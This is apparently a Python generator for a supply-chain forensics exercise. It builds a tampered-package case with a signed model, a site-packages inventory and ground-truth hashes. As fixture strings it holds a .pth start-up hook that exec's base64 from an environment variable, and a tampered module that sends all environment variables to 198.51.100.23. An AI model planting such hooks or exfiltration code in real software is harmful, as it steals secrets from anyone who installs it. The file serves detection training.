"""The ``poisoned-package`` sample case: an intact, signed model served from an environment in which one installed
package was tampered with after install.

The serving image's site-packages is captured as ``contain assess`` captures it (``python-env/1/``: ``capture.json``,
``files.jsonl`` with every file's size, mtime and SHA-256, and the dist-info metadata and top-level ``.pth`` files
copied under ``tree/``). Six distributions were installed by the image build; on the ground-truth tamper time,
``tokenwise_accel/_runtime.py`` of the fictional ``tokenwise-accel 0.9.1`` was rewritten (its RECORD still holds the
published digest) and ``tokenwise_accel_init.pth`` (in no RECORD) was dropped beside it: a start-up hook run by
every interpreter, the pattern of the LiteLLM ``.pth`` incident. setuptools' own ``distutils-precedence.pth`` is
there too, shipped on purpose. Module bytes are synthetic and never written: only their digests are listed.
"""

from __future__ import annotations

import base64
import hashlib

from workbench.samples import ci_logs, texts
from workbench.samples.artifacts import (
    Files,
    case_yaml,
    classifier_config,
    f32,
    hash_lines,
    json_bytes,
    jsonl_bytes,
    monitor_config,
    public_key_pem,
    safetensors_bytes,
    seed,
    signed_folder,
    text_bytes,
    utc,
)

__all__ = ["HOOK_LINE", "INSTALL_TIME", "TAMPER_TIME", "case_poisoned_package"]

EMBEDDER = "doc-embedder-v1.2"
INCIDENT = "INC-2026-0171"
SITE = "/opt/venv/lib/python3.11/site-packages"
INSTALL_TIME = "2026-11-18T06:41:12Z"
TAMPER_TIME = "2026-11-22T03:17:45Z"
CAPTURE_TIME = "2026-11-27T10:02:31Z"
DETECTION = "2026-11-27T08:55:10Z"
HOOK_LINE = ("import os, sys; exec(__import__('base64').b64decode(os.environ.get('TW_BOOT', 'aW1wb3J0IHRva2Vud2lzZV9"
             "hY2NlbC5fcnVudGltZSBhcyBfcjsgX3IuX3dhcm0oKQ==')))")  # fmt: skip
PTH = "tokenwise_accel_init.pth"
#: distribution -> (version, {module path: synthetic source}); top-level .pth files listed by their owner
_DISTS: dict[str, tuple[str, dict[str, str]]] = {
    "certifi": ("2024.2.2", {"certifi/__init__.py": "from .core import contents, where\n",
                             "certifi/core.py": "def where():\n    return 'cacert.pem'\n",
                             "certifi/cacert.pem": "# (bundle elided in the sample)\n"}),
    "idna": ("3.6", {"idna/__init__.py": "from .core import encode, decode\n",
                     "idna/core.py": "def encode(s):\n    return s.encode('idna')\n"}),
    "requests": ("2.31.0", {"requests/__init__.py": "from .api import get, post\n",
                            "requests/api.py": "def get(url, **kw):\n    ...\n"}),
    "setuptools": ("69.1.1", {"setuptools/__init__.py": "__version__ = '69.1.1'\n",
                              "_distutils_hack/__init__.py": "def add_shim():\n    ...\n",
                              "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = "
                              "os.environ.get(var, 'local') == 'local'; enabled and "
                              "__import__('_distutils_hack').add_shim(); \n"}),
    "tokenwise-accel": ("0.9.1", {"tokenwise_accel/__init__.py": "from ._runtime import batch_encode\n",
                                  "tokenwise_accel/_runtime.py": "def batch_encode(texts):\n    return [t.split() for"
                                  " t in texts]\n"}),
    "urllib3": ("2.2.1", {"urllib3/__init__.py": "from .poolmanager import PoolManager\n",
                          "urllib3/poolmanager.py": "class PoolManager:\n    ...\n"}),
}  # fmt: skip
_TAMPERED = ("tokenwise_accel/_runtime.py", "def batch_encode(texts):\n    return [t.split() for t in texts]\n\n\n"
             "def _warm():\n    import os, socket, json\n    blob = json.dumps(dict(os.environ)).encode()\n"
             "    socket.create_connection(('198.51.100.23', 443)).sendall(blob)\n")  # fmt: skip


def _ns(text: str) -> int:
    return int(utc(text).timestamp()) * 1_000_000_000


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def _environment() -> tuple[Files, list[dict]]:
    """The inventory capture's copied files (under ``tree/``) and its ``files.jsonl`` rows."""
    copied: Files = {}
    listed: dict[str, tuple[bytes, str]] = {}
    for dist, (version, modules) in _DISTS.items():
        info = f"{dist.replace('-', '_')}-{version}.dist-info"
        meta = {
            f"{info}/METADATA": text_bytes(["Metadata-Version: 2.1", f"Name: {dist}", f"Version: {version}"]),
            f"{info}/WHEEL": text_bytes(
                ["Wheel-Version: 1.0", "Generator: bdist_wheel (0.42.0)", "Root-Is-Purelib: true", "Tag: py3-none-any"]
            ),
            f"{info}/INSTALLER": b"pip\n",
            f"{info}/top_level.txt": text_bytes(sorted({p.split("/")[0] for p in modules if "/" in p})),
        }
        files = {p: s.encode() for p, s in modules.items()}
        record = [f"{p},sha256={_b64(d)},{len(d)}" for p, d in {**files, **meta}.items()] + [f"{info}/RECORD,,"]
        meta[f"{info}/RECORD"] = text_bytes(record)
        for rel, data in files.items():
            listed[rel] = (data, INSTALL_TIME)
            if "/" not in rel:  # a top-level .pth: the capture copies it
                copied[rel] = data
        for rel, data in meta.items():
            listed[rel] = (data, INSTALL_TIME)
            copied[rel] = data
    rel, source = _TAMPERED
    listed[rel] = (source.encode(), TAMPER_TIME)
    hook = (HOOK_LINE + "\n").encode()
    listed[PTH] = (hook, TAMPER_TIME)
    copied[PTH] = hook
    rows = [{"path": p, "size": len(d), "mtime_ns": _ns(t), "sha256": hashlib.sha256(d).hexdigest(), "binary": False}
            for p, (d, t) in sorted(listed.items())]  # fmt: skip
    return copied, rows


def case_poisoned_package(case: str) -> tuple[Files, dict]:
    """The case's files (relative path -> bytes) and its ground truth for the README."""
    import numpy as np

    rng = np.random.default_rng(seed(case))
    t = {
        "embeddings.weight": rng.normal(0, 0.02, (48, 16)).astype(np.float32),
        "encoder.layer.0.attention.value.weight": rng.normal(0, 0.2, (16, 16)).astype(np.float32),
        "pooler.dense.weight": rng.normal(0, 0.2, (8, 16)).astype(np.float32),
    }
    model = {
        "config.json": classifier_config("BertModel", "bert", ("embedding",), dim=16, vocab_size=48, pooled=8),
        "model.safetensors": safetensors_bytes({n: f32(a) for n, a in t.items()}),
    }
    folder = signed_folder(case, EMBEDDER, "2026-11-10T12:00:00Z", model)
    files: Files = {f"models/{s}/{EMBEDDER}/{rel}": d for s in ("suspect", "reference") for rel, d in folder.items()}
    files["current_hashes.txt"] = hash_lines(EMBEDDER, folder, ["model.safetensors", "config.json",
                                                                 ".signatures/manifest.json",
                                                                 ".signatures/manifest.sig"])  # fmt: skip
    files["manifest.json"] = folder[".signatures/manifest.json"]
    files["keys/cosign.pub"] = public_key_pem(case)
    copied, rows = _environment()
    env = "python-env/1"
    files[f"{env}/capture.json"] = json_bytes({
        "format": "workbench-python-env", "version": 1, "site_packages": SITE, "python": "3.11.9",
        "captured_at": CAPTURE_TIME, "files": len(rows), "bytes": sum(r["size"] for r in rows), "copied": len(copied),
        "symlinks": 0,
    })  # fmt: skip
    files[f"{env}/files.jsonl"] = jsonl_bytes(rows)
    files.update({f"{env}/tree/{rel}": data for rel, data in copied.items()})
    pins = {d: v for d, (v, _) in _DISTS.items()}
    files["frozen_deps.txt"] = text_bytes([f"{d}=={v}" for d, v in sorted(pins.items())])
    files["monitor/config.json"] = monitor_config("models", [EMBEDDER], pins)
    files["actions.log"] = texts.actions_log(INCIDENT, EMBEDDER, CAPTURE_TIME)
    files["processes.txt"] = texts.processes_clean()
    files["network.txt"] = texts.network_clean()
    files["logs/pipeline.log"] = ci_logs.stamp(rng, "2026-11-18T06:38:02.123456Z", ci_logs.gitlab_log(),
                                               ci_logs.fmt_gitlab)  # fmt: skip
    files["case.yaml"] = case_yaml({
        "incident_id": INCIDENT,
        "title": f"Start-up hook in the {EMBEDDER} serving environment",
        "severity": "high",
        "commander": "Mei Lin",
        "affected_models": [EMBEDDER],
        "detection_time": DETECTION,
        "detection_method": "EDR: outbound connection from the embedding service's Python workers",
        "naive_timezone": "UTC",
        "suspect_model": f"models/suspect/{EMBEDDER}",
        "reference_model": f"models/reference/{EMBEDDER}",
        "public_key": "keys/cosign.pub",
    })  # fmt: skip
    tampered = next(r for r in rows if r["path"] == _TAMPERED[0])
    return files, {
        "files": len(rows),
        "dists": len(_DISTS),
        "tampered_sha256": tampered["sha256"],
        "published_sha256": hashlib.sha256(_DISTS["tokenwise-accel"][1][_TAMPERED[0]].encode()).hexdigest(),
    }
